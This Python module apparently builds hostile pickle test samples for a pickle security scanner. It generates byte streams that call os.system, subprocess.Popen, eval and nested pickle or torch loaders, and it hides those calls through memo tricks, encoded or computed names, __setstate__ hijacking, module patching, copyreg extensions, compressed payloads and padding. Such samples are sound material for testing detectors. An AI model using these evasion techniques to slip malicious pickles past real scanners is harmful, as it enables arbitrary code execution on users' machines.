"""Ways to hide from a reader of opcodes what a pickle calls, although the names themselves are plain."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

from support.hostile.assembler import (
    ARGUMENTS,
    EVIL,
    PYTHON,
    SHELL,
    SYSTEM,
    Code,
    Hostile,
    attribute,
    built,
    call,
    method,
    name,
    sample,
    stack_name,
    stream,
    value,
)

_OS = name("os", "system")
_SPACE = call("argparse:Namespace")
_TEXT = value(SHELL)


def opcode_tricks() -> Iterator[Hostile]:
    """All of them."""
    for make in (
        _protocols,
        _ways_to_call,
        _memo,
        _names_of_python_2,
        _computed_names,
        _state,
        _changed_from_outside,
        _methods_of_containers,
        _computed_bytes,
        _extensions,
        _odd_streams,
        _dotted,
    ):
        yield from make()


class _Reduced:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (SHELL,)


class _Deep:
    def __reduce__(self) -> tuple[object, ...]:
        return list, ([[{"a": (1, _Reduced())}]],)


def _protocols() -> Iterator[Hostile]:
    for protocol in range(6):
        yield Hostile("protocols", f"{protocol}", pickle.dumps(_Reduced(), protocol))
        yield Hostile("protocols", f"{protocol}, deep within", pickle.dumps({"w": [1.5, _Deep()]}, protocol))
    yield Hostile("protocols", "no PROTO", SYSTEM + b".")
    yield Hostile("protocols", "PROTO 0", b"\x80\x00" + SYSTEM + b".")
    yield Hostile("protocols", "PROTO twice", b"\x80\x05\x80\x02" + SYSTEM + b".")


def _raw(trick: str, label: str, opcodes: bytes, protocol: int = 4) -> Hostile:
    return Hostile(trick, label, b"\x80" + bytes([protocol]) + opcodes + b".")


def _ways_to_call() -> Iterator[Hostile]:
    trick = "ways to call"
    numbers = call("builtins:map", _OS, [SHELL])
    yield _raw(trick, "INST", b"(" + _TEXT + b"ios\nsystem\n")
    yield _raw(trick, "INST of subprocess", b"(" + value(ARGUMENTS) + b"isubprocess\nPopen\n")
    yield _raw(trick, "INST, protocol 0", b"(S'" + SHELL.encode() + b"'\nios\nsystem\n", 0)
    yield _raw(trick, "OBJ", b"(" + _OS + _TEXT + b"o")
    yield _raw(trick, "OBJ of posix", b"(" + name("posix", "system") + _TEXT + b"o")
    yield _raw(trick, "NEWOBJ", name("builtins", "tuple") + value((numbers,)) + b"\x81")
    yield _raw(
        trick,
        "NEWOBJ twice",
        name("builtins", "frozenset") + b"(" + name("builtins", "map") + value((_OS, [SHELL])) + b"\x81t\x81",
    )
    yield _raw(trick, "NEWOBJ_EX", name("builtins", "tuple") + value((numbers,)) + b"}\x92")
    yield _raw(trick, "NEWOBJ_EX of bytes", name("builtins", "bytes") + value((numbers,)) + b"}\x92")
    yield _raw(trick, "STACK_GLOBAL", stack_name("os", "system") + value((SHELL,)) + b"R")
    yield _raw(trick, "REDUCE of a memo", _OS + b"\x940" + b"h\x00" + value((SHELL,)) + b"R")
    yield _raw(trick, "arguments made by TUPLE1", _OS + _TEXT + b"\x85R")
    yield _raw(trick, "arguments from a list", _OS + call("builtins:tuple", [SHELL]) + b"R")
    yield _raw(trick, "consumed by list", call("builtins:list", numbers))
    yield _raw(trick, "consumed by dict", call("builtins:dict.fromkeys", numbers))
    yield _raw(trick, "consumed by set", call("builtins:set", numbers))
    yield _raw(trick, "consumed by Counter", call("collections:Counter", numbers))
    yield _raw(trick, "consumed by deque", call("collections:deque", numbers))
    yield _raw(trick, "consumed by bytearray", call("builtins:bytearray", numbers))
    yield _raw(trick, "consumed by sum", call("builtins:sum", numbers))


def _memo() -> Iterator[Hostile]:
    trick = "memo"
    yield _raw(
        trick,
        "PUT beside MEMOIZE",
        b"\x8c\x02osq\x000\x8c\x06systemq\x010\x8c\x0btorch._util\x940\x8c\x07rebuild\x940h\x00h\x01\x93"
        + value((SHELL,))
        + b"R",
    )
    yield _raw(
        trick, "places out of order", b"\x8c\x06systemq\x070\x8c\x02osq\x030h\x03h\x07\x93" + value((SHELL,)) + b"R"
    )
    yield _raw(
        trick,
        "overwritten",
        b"\x8c\x04mathq\x000\x8c\x02osq\x000\x8c\x06systemq\x010h\x00h\x01\x93" + value((SHELL,)) + b"R",
    )
    yield _raw(
        trick,
        "far places",
        b"\x8c\x02osr\xff\xff\x00\x000\x8c\x06systemr\x00\x00\x01\x000j\xff\xff\x00\x00j\x00\x00\x01\x00\x93"
        + value((SHELL,))
        + b"R",
    )
    yield _raw(trick, "DUP and POP", b"\x8c\x02os2020\x8c\x06system20\x93" + value((SHELL,)) + b"R")
    yield _raw(trick, "POP_MARK", b"(N\x88\x891" + b"\x8c\x02os(K\x011\x8c\x06system\x93" + value((SHELL,)) + b"R")
    yield _raw(trick, "lines of GET and PUT", b"Vos\np5\n0Vsystem\np77\n0g5\ng77\n\x93" + value((SHELL,)) + b"R")
    yield _raw(trick, "the call in the memo", SYSTEM + b"q\x00" + b"0" + b"]h\x00a")
    yield _raw(
        trick,
        "a harmless name behind",
        b"\x8c\x02os\x8c\x06system\x93" + value((SHELL,)) + b"R0" + name("collections", "OrderedDict") + b")R",
    )
    yield _raw(trick, "escaped text", b"V\\u006fs\nV\\u0073ystem\n\x93" + value((SHELL,)) + b"R")
    yield _raw(trick, "escaped string", b"S'\\x6fs'\nS'\\163ystem'\n\x93" + value((SHELL,)) + b"R")
    yield _raw(trick, "string of Python 2", b"U\x02osU\x06system\x93" + value((SHELL,)) + b"R")
    yield _raw(
        trick,
        "long text opcodes",
        b"\x8d" + struct.pack("<Q", 2) + b"os" + b"T" + struct.pack("<i", 6) + b"system\x93" + value((SHELL,)) + b"R",
    )


def _names_of_python_2() -> Iterator[Hostile]:
    trick = "names of Python 2"
    for module, attribute_name, argument in (
        ("__builtin__", "eval", PYTHON),
        ("__builtin__", "apply", None),
        ("commands", "getoutput", SHELL),
        ("commands", "getstatusoutput", SHELL),
        ("cPickle", "loads", EVIL),
        ("thread", "start_new_thread", (_OS, (SHELL,))),
        ("anydbm", "open", None),
        ("os", "getcwdu", None),
        ("__builtin__", "reduce", None),
        ("itertools", "imap", None),
        ("UserList", "UserList", None),
        ("whichdb", "whichdb", None),
    ):
        function = name(module, attribute_name)
        if module == "thread":
            yield _raw(trick, "thread", function + value(argument) + b"R", 2)
        elif argument is not None:
            yield _raw(trick, f"{module}.{attribute_name}", function + value((argument,)) + b"R", 2)
        elif attribute_name == "reduce":
            yield _raw(trick, "reduce", function + value((name("operator", "call"), [SHELL], _OS)) + b"R", 2)
        elif attribute_name == "imap":
            yield _raw(
                trick,
                "imap",
                name("builtins", "list") + value((Code(function + value((_OS, [SHELL])) + b"R"),)) + b"R",
                2,
            )


def _computed_names() -> Iterator[Hostile]:
    trick = "computed names"
    os_and_system: tuple[tuple[str, object, object], ...] = (
        ("str of bytes", call("builtins:str", b"os", "ascii"), call("builtins:str", b"system", "ascii")),
        ("_codecs.decode", call("_codecs:decode", b"os"), call("_codecs:decode", b"system")),
        ("rot13", call("codecs:decode", "bf", "rot13"), call("codecs:decode", "flfgrz", "rot13")),
        ("_codecs.encode", call("_codecs:decode", call("_codecs:encode", "os", "latin1")), "system"),
        ("str.join", call("builtins:str.join", "", ["o", "s"]), call("builtins:str.join", "", ["sys", "tem"])),
        ("str.lower", call("builtins:str.lower", "OS"), call("builtins:str.lower", "SYSTEM")),
        ("str.replace", call("builtins:str.replace", "oxs", "x", ""), "system"),
        ("operator.add", call("operator:add", "o", "s"), call("operator:add", "sys", "tem")),
        ("operator.mod", call("operator:mod", "o%s", "s"), "system"),
        ("str.format", call("builtins:str.format", "{}s", "o"), "system"),
        ("base64", call("_codecs:decode", call("base64:b64decode", "b3M=")), "system"),
        ("bytes.fromhex", call("_codecs:decode", call("builtins:bytes.fromhex", "6f73")), "system"),
        ("reversed slice", call("operator:getitem", "so", call("builtins:slice", None, None, -1)), "system"),
        ("a part of a list", call("operator:getitem", ["os", "x"], 0), "system"),
        ("chr", call("operator:add", call("builtins:chr", 111), call("builtins:chr", 115)), "system"),
        ("name of a module", Code(name("os", "__name__")), "system"),
        ("name of a function", "os", Code(name("os", "system.__name__"))),
        (
            "default of OrderedDict",
            call("collections:OrderedDict.get", call("collections:OrderedDict", [("a", "os")]), "a"),
            "system",
        ),
        ("sorted", "os", call("operator:getitem", call("builtins:sorted", ["system", "x"]), 0)),
    )
    for label, module, attribute_name in os_and_system:
        yield sample(trick, label, call(stack_name(module, attribute_name), SHELL))
    yield sample(
        trick,
        "an attribute that was set",
        Code(name("collections", "namedtuple") + b"N}" + value("a") + value("os") + b"s\x86b"),
        call(Code(name("collections", "namedtuple.a") + value("system") + b"\x93"), SHELL),
    )


def _state() -> Iterator[Hostile]:
    trick = "__setstate__"
    for label, maker in (
        ("Namespace", _SPACE),
        ("SimpleNamespace", call("types:SimpleNamespace")),
        ("an exception", call("builtins:Exception")),
        ("UserDict", call("collections:UserDict")),
    ):
        yield sample(trick, label, built(built(maker, {"__setstate__": _OS}), SHELL))
    yield sample(
        trick, "subprocess by state", built(built(_SPACE, {"__setstate__": name("subprocess", "getoutput")}), SHELL)
    )
    yield sample(trick, "slots", built(built(_SPACE, (None, {"__setstate__": _OS})), SHELL))
    yield sample(
        trick, "partial", call(built(call("functools:partial", name("builtins", "int")), (_OS, (SHELL,), {}, {})))
    )
    yield sample(
        trick,
        "partial of a harmless name",
        built(built(_SPACE, {"__setstate__": call("functools:partial", name("os", "system"))}), SHELL),
    )
    yield sample(trick, "eval as state", built(built(_SPACE, {"__setstate__": name("builtins", "eval")}), PYTHON))
    yield sample(
        trick,
        "a nested pickle as state",
        built(built(_SPACE, {"__setstate__": name("pickle", "loads")}), EVIL),
    )
    yield sample(
        trick,
        "torch bytes as state",
        built(built(_SPACE, {"__setstate__": name("torch.storage", "_load_from_bytes")}), EVIL_TORCH),
        needs="torch",
    )


def _changed_from_outside() -> Iterator[Hostile]:
    trick = "changes what others use"
    yield sample(
        trick,
        "sys.modules",
        Code(name("sys", "modules") + b"(" + value("math") + call("builtins:__import__", "os") + b"u"),
        call("math:system", SHELL),
    )
    yield sample(
        trick,
        "SETITEM of a module's dict",
        Code(name("math", "__dict__") + value("sqrt") + _OS + b"s"),
        call("math:sqrt", SHELL),
    )
    yield sample(
        trick,
        "BUILD of a module",
        Code(name("argparse", "_sys") + b"N}" + value("zzz") + _OS + b"s\x86b"),
        call("sys:zzz", SHELL),
    )
    yield sample(
        trick,
        "BUILD of a function",
        Code(name("collections", "namedtuple") + b"N}" + value("zzz") + _OS + b"s\x86b"),
        call("collections:namedtuple.zzz", SHELL),
    )
    yield sample(
        trick,
        "BUILD of a class",
        Code(name("argparse", "Namespace") + b"N}" + value("__setstate__") + _OS + b"s\x86b"),
        call("argparse:Namespace.__setstate__", SHELL),
    )
    yield sample(
        trick, "setattr", call("builtins:setattr", name("argparse", "_sys"), "zzz", _OS), call("sys:zzz", SHELL)
    )
    yield sample(
        trick,
        "the table of extensions",
        Code(name("copyreg", "_inverted_registry") + value(7) + value(("os", "system")) + b"s"),
        Code(b"\x82\x07" + value((SHELL,)) + b"R"),
    )
    yield sample(
        trick,
        "the cache of extensions",
        Code(name("copyreg", "_extension_cache") + value(9) + _OS + b"s"),
        Code(b"\x82\x09" + value((SHELL,)) + b"R"),
    )


def _methods_of_containers() -> Iterator[Hostile]:
    trick = "methods of containers"
    for label, method_name, opcodes in (
        ("APPEND", "append", _TEXT + b"a"),
        ("APPENDS", "append", b"(" + _TEXT + b"e"),
        ("ADDITEMS", "add", b"(" + _TEXT + b"\x90"),
    ):
        yield _raw(trick, label, built(_SPACE, {method_name: _OS}) + opcodes)
    yield _raw(
        trick,
        "extend",
        built(_SPACE, {"extend": name("subprocess", "Popen"), "append": _OS})
        + b"("
        + b"".join(map(value, ARGUMENTS))
        + b"e",
    )
    kind = call("builtins:type", "X", (), {"__setitem__": name("subprocess", "Popen")})
    yield _raw(trick, "SETITEM", call(kind) + value(ARGUMENTS) + value(0) + b"s")
    kind = call("builtins:type", "X", (), {"__getitem__": _OS})
    yield _raw(trick, "getitem of a new class", call("operator:getitem", call(kind), SHELL))
    kind = call("builtins:type", "X", (), {"__contains__": _OS})
    yield _raw(trick, "a new class", call("operator:contains", call(kind), SHELL))
    kind = call("types:new_class", "X")
    yield _raw(
        trick,
        "types.new_class",
        call("operator:contains", call(call("builtins:type", "Y", value((kind,)), {"__contains__": _OS})), SHELL),
    )
    kind = call("builtins:type", "X", (), {"__format__": _OS})
    yield _raw(trick, "__format__", call("builtins:format", call(kind), SHELL))
    kind = call("abc:ABCMeta", "X", (), {"__contains__": _OS})
    yield _raw(trick, "a metaclass", call("operator:contains", call(kind), SHELL))


def _torch_zip(data: bytes, root: str = "archive") -> bytes:
    import io
    import zipfile

    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(f"{root}/data.pkl", data)
        archive.writestr(f"{root}/byteorder", "little")
        archive.writestr(f"{root}/version", "3\n")
    return made.getvalue()


EVIL_TORCH = _torch_zip(EVIL.replace(b"\x80\x04", b"\x80\x02", 1))


def _computed_bytes() -> Iterator[Hostile]:
    import base64
    import bz2
    import gzip
    import lzma
    import zlib

    trick = "computed bytes"
    for loader, data, needs in (("pickle:loads", EVIL, ""), ("torch.storage:_load_from_bytes", EVIL_TORCH, "torch")):
        short = loader.partition(":")[2]
        half = len(data) // 2
        for label, made in (
            ("as they are", value(data)),
            ("base64", call("base64:b64decode", base64.b64encode(data))),
            ("binascii", call("binascii:a2b_base64", base64.b64encode(data))),
            ("hex", call("builtins:bytes.fromhex", data.hex())),
            ("zlib", call("zlib:decompress", zlib.compress(data))),
            ("gzip", call("gzip:decompress", gzip.compress(data))),
            ("bz2", call("bz2:decompress", bz2.compress(data))),
            ("lzma", call("lzma:decompress", lzma.compress(data))),
            ("a list of numbers", call("builtins:bytes", list(data))),
            ("two halves", call("operator:concat", data[:half], data[half:])),
            ("latin-1", call("_codecs:encode", data.decode("latin-1"), "latin-1")),
            ("backwards", call("operator:getitem", data[::-1], call("builtins:slice", None, None, -1))),
            ("from a file", method(call("io:BytesIO", data), "read")),
        ):
            yield sample(f"{trick} for {short}", label, call(loader, made), needs=needs)
    yield sample(
        trick,
        "handed on",
        call(call("functools:partial", name("torch.storage", "_load_from_bytes")), EVIL_TORCH),
        needs="torch",
    )
    yield sample(
        trick,
        "handed on with computed bytes",
        call(
            "torch._tensor:_rebuild_from_type_v2",
            name("torch.storage", "_load_from_bytes"),
            name("torch", "Tensor"),
            (call("base64:b64decode", base64.b64encode(EVIL_TORCH)),),
            {},
        ),
        needs="torch",
    )
    yield sample(
        trick,
        "bytearray",
        call("torch.storage:_load_from_bytes", call("builtins:bytearray", EVIL_TORCH)),
        needs="torch",
    )


def _extensions() -> Iterator[Hostile]:
    trick = "extensions"
    add = call("copyreg:add_extension", "os", "system", 77)
    yield sample(trick, "EXT1", add, Code(b"\x82\x4d" + value((SHELL,)) + b"R"))
    yield sample(
        trick,
        "EXT2",
        call("copyreg:add_extension", "os", "system", 777),
        Code(b"\x83\x09\x03" + value((SHELL,)) + b"R"),
    )
    yield sample(
        trick,
        "EXT4",
        call("copyreg:add_extension", "posix", "system", 70000),
        Code(b"\x84" + struct.pack("<i", 70000) + value((SHELL,)) + b"R"),
    )


def _odd_streams() -> Iterator[Hostile]:
    trick = "odd streams"
    yield Hostile(trick, "no STOP", b"\x80\x04" + SYSTEM)
    yield Hostile(trick, "cut within a text", b"\x80\x04" + SYSTEM + b"\x8c\xffabc")
    yield Hostile(trick, "an unknown opcode behind", b"\x80\x04" + SYSTEM + b"\xff\xfe.")
    yield Hostile(trick, "stack underflow behind", b"\x80\x04" + SYSTEM + b"0000.")
    yield Hostile(trick, "an empty memo behind", b"\x80\x04" + SYSTEM + b"h\x63.")
    yield Hostile(trick, "a wrong protocol behind", b"\x80\x04" + SYSTEM + b"\x80\x63.")
    yield Hostile(trick, "an import that fails behind", b"\x80\x04" + SYSTEM + b"0cnosuchmodule\nx\n.")
    yield Hostile(
        trick,
        "a frame that is too short",
        b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM)) + SYSTEM + b"\x95\x02\0\0\0\0\0\0\0",
    )
    yield Hostile(trick, "rubbish behind", EVIL + bytes(range(256)))
    trick = "something in front or beside"
    yield Hostile(trick, "text in front", b"(lp0\n0" + EVIL)
    yield Hostile(trick, "numbers in front", b"I1\n0F1.5\n0L7L\n0" + EVIL)
    yield Hostile(trick, "nothing in front", b"N0" * 500 + EVIL)
    yield Hostile(trick, "a mark in front", b"(1(1(1" + EVIL)
    yield Hostile(trick, "a large text in front", stream(value("x" * 300_000), SYSTEM))
    yield Hostile(trick, "many values in front", b"\x80\x04" + b"K\x010" * 100_000 + SYSTEM + b".")
    yield Hostile(trick, "a second pickle", pickle.dumps([1, 2]) + EVIL, loader="pickles")
    yield Hostile(trick, "a third pickle", pickle.dumps(1) + pickle.dumps({"a": 1}) + EVIL, loader="pickles")
    yield Hostile(
        trick, "a second pickle behind zeros", pickle.dumps([1, 2]) + b"\0" * 10 + EVIL, loader="pickles-by-search"
    )
    yield Hostile(trick, "no name of a pickle", EVIL, file="weights")
    yield Hostile(trick, "persistent id", b"\x80\x04" + SYSTEM + b"QN.", loader="persistent")
    yield Hostile(trick, "out-of-band buffer", b"\x80\x05" + SYSTEM + b"\x970.", loader="pickle")
    yield Hostile(
        trick, "a big integer", b"\x80\x04\x8b" + struct.pack("<i", 1000) + b"\x01" * 1000 + b"0" + SYSTEM + b"."
    )
    yield Hostile(trick, "a set within", b"\x80\x04\x8f(" + SYSTEM + b"\x90.")
    yield Hostile(trick, "a frozenset within", b"\x80\x04(" + SYSTEM + b"\x91.")
    yield Hostile(trick, "a key", b"\x80\x04}" + SYSTEM + b"Ns.")
    yield Hostile(trick, "recursive", b"\x80\x04]q\x00h\x00a" + SYSTEM + b"a.")


def _dotted() -> Iterator[Hostile]:
    trick = "dotted names"
    yield sample(
        trick,
        "a class's globals",
        call(
            attribute(call("operator:getitem", name("argparse", "Namespace.__init__.__globals__"), "_os"), "system"),
            SHELL,
        ),
    )
    yield sample(trick, "a module in a module", call("argparse:_os.system", SHELL))
    yield sample(
        trick,
        "builtins of a function",
        call(call("operator:getitem", name("collections", "namedtuple.__builtins__"), "eval"), PYTHON),
    )
    yield sample(trick, "loader", call(attribute(call("builtins:__loader__.load_module", "posix"), "system"), SHELL))
    yield sample(
        trick,
        "spec",
        call(
            attribute(
                method(name("zipimport", "__spec__.loader"), "load_module", "zipimport"),
                "_bootstrap_external",
                "_os",
                "system",
            ),
            SHELL,
        ),
    )
    yield sample(
        trick,
        "builtin loader by another module",
        call(attribute(call("time:__loader__.load_module", "posix"), "system"), SHELL),
    )
    yield sample(trick, "torch dots", call("torch:serialization.os.system", SHELL), needs="torch")
    yield sample(trick, "numpy dots", call("numpy:lib._npyio_impl.os.system", SHELL), needs="numpy")
    yield sample(trick, "main", Code(name("__main__", "__builtins__.eval") + value((PYTHON,)) + b"R"))
